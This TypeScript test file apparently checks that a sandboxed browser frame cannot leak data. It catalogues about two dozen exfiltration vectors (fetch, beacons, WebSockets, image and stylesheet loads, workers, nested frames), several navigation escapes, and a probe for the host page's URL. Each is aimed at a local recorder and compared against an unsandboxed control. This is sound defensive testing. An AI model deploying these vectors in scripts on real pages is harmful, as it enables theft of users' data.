import {expect} from '@open-wc/testing';
import {until} from '../support/frame.js';
import {attack, attacker, bareFrame, carriers, engine, heard, once, recorder} from './attack.js';

/** Exfiltration vectors that leave the document in place; `to(what)` is an address of the recorder. */
const vectors: Record<string, string> = {
  fetch: `fetch(to('fetch'), {mode: 'no-cors'}).catch(() => {})`,
  xhr: `const xhr = new XMLHttpRequest(); xhr.open('GET', to('xhr')); xhr.send()`,
  beacon: `navigator.sendBeacon(to('beacon'), 'x')`,
  websocket: `new WebSocket(to('websocket').replace('http', 'ws'))`,
  eventsource: `new EventSource(to('eventsource'))`,
  image: `new Image().src = to('image')`,
  srcset: `make('img', {srcset: to('srcset') + ' 1x'})`,
  svg: `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + to('svg') + '"/></svg>')`,
  input: `make('input', {type: 'image', src: to('input')})`,
  video: `make('video', {src: to('video'), preload: 'auto'})`,
  poster: `make('video', {poster: to('poster')})`,
  audio: `make('audio', {src: to('audio'), preload: 'auto'})`,
  stylesheet: `make('link', {rel: 'stylesheet', href: to('stylesheet')})`,
  import: `make('style', {textContent: '@import "' + to('import') + '";'})`,
  background: `make('p', {textContent: '.'}).style.backgroundImage = 'url(' + to('background') + ')'`,
  font: `new FontFace('x', 'url(' + to('font') + ')').load().catch(() => {})`,
  script: `make('script', {src: to('script')})`,
  module: `import(to('module')).catch(() => {})`,
  preload: `make('link', {rel: 'preload', as: 'image', href: to('preload')})`,
  prefetch: `make('link', {rel: 'prefetch', href: to('prefetch')})`,
  icon: `make('link', {rel: 'icon', href: to('icon')})`,
  frame: `make('iframe', {src: to('frame')})`,
  object: `make('object', {data: to('object')})`,
  embed: `make('embed', {src: to('embed')})`,
  worker: `new Worker(URL.createObjectURL(new Blob(['fetch("' + to('worker') + '", {mode: "no-cors"})'])))`,
  nested: `make('iframe', {srcdoc: '<img src="' + to('nested') + '">'})`,
};

/** Requests that an engine does not send from a bare frame either, so their absence proves nothing. */
const silent: Record<typeof engine, readonly string[]> = {
  chromium: ['icon'],
  firefox: ['icon'],
  webkit: ['icon', 'prefetch'],
};
const conclusive = Object.keys(vectors).filter((what) => !silent[engine].includes(what));

const everywhere = (base: string) => `
  const to = (what) => ${JSON.stringify(base)} + what;
  const make = (tag, members) => document.body.appendChild(Object.assign(document.createElement(tag), members));
  for (const attempt of [${Object.values(vectors)
    .map((code) => `() => {${code}}`)
    .join(',\n')}]) try { attempt(); } catch {}
  report('tried');`;

/** Exfiltration vectors that would replace the document. */
const departures: Record<string, string> = {
  location: `location.href = to`,
  replace: `location.replace(to)`,
  anchor: `const link = document.createElement('a'); link.href = to; document.body.append(link); link.click()`,
  refresh: `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + to; document.head.append(meta)`,
  form: `const form = document.createElement('form'); form.action = to; document.body.append(form); form.submit()`,
  rewritten: `document.open(); document.write('<script>location.href = ' + JSON.stringify(to) + '</' + 'script>'); document.close()`,
};

describe('L2: a guest that sends data over the network', () => {
  for (const [carrier, options] of carriers) {
    it(`a guest cannot reach a server by any of ${conclusive.length} vectors (${carrier}); a bare frame can by all`, async () => {
      const kept = recorder();
      const leaked = recorder();
      const {frame, reports, outcome, endings} = await attack(attacker(everywhere(kept.base)), options);
      await until(() => reports().includes('tried'), 'the attempts');

      // Starts after the guest and finishes before the assertions, so the guest has had time to leak.
      await bareFrame(everywhere(leaked.base));
      await heard(leaked, conclusive);

      expect(await kept.hits()).to.deep.equal({});
      expect(frame.status).to.equal('ready');
      frame.cancel();
      expect(await outcome).to.deep.equal({action: 'cancel'});
      expect(endings).to.deep.equal(once);
    });
  }
});

describe('N1: a guest that takes data to another page', () => {
  for (const [carrier, options] of carriers) {
    for (const [what, code] of Object.entries(departures)) {
      it(`a guest cannot navigate by ${what} (${carrier}); a bare frame can`, async () => {
        const kept = recorder();
        const leaked = recorder();
        const {frame, outcome, endings, contexts} = await attack(
          attacker(`const to = ${JSON.stringify(kept.url(what))}; ${code}`),
          options,
        );
        await until(() => contexts().length > 0, 'the context');

        await bareFrame(
          `addEventListener('load', () => setTimeout(() => { const to = ${JSON.stringify(leaked.url(what))}; ${code} }))`,
        );
        await heard(leaked, [what]);

        expect(await kept.hits()).to.deep.equal({});
        // A form may be blocked by `form-action`, which leaves the guest in place.
        if (what === 'form') frame.cancel();
        const stopped =
          what === 'form' ? [{action: 'cancel'}, {code: 'GUEST_NAVIGATED'}] : [{code: 'GUEST_NAVIGATED'}];
        expect(stopped).to.deep.include(await outcome);
        expect(endings).to.deep.equal(once);
      });
    }
  }
});

describe("L1: a guest that looks for the page's address", () => {
  const curious = `report([
    document.baseURI, document.URL, document.referrer, name, location.href, parent.length,
    ...(location.ancestorOrigins ?? []), performance.getEntriesByType('navigation')[0]?.name ?? '',
    new Error().stack ?? '', new URL('', document.baseURI).href,
  ])`;
  let address: string;

  beforeEach(() => {
    address = location.href;
    const secret = new URL(address);
    secret.searchParams.set('secret', 'canary');
    history.replaceState(history.state, '', secret);
  });
  afterEach(() => history.replaceState(history.state, '', address));

  for (const [carrier, options] of carriers) {
    it(`a guest learns no more of the address than the origin (${carrier})`, async () => {
      const {frame, reports, outcome} = await attack(attacker(curious), options);

      await until(() => reports().length, 'the report');

      expect(JSON.stringify(reports())).to.not.contain('canary');
      frame.cancel();
      await outcome;
    });
  }

  it('a bare frame learns the address (positive control)', async () => {
    const {reports} = await bareFrame(curious);

    await until(() => reports.length, 'the report');

    expect(JSON.stringify(reports)).to.contain('canary');
  });
});
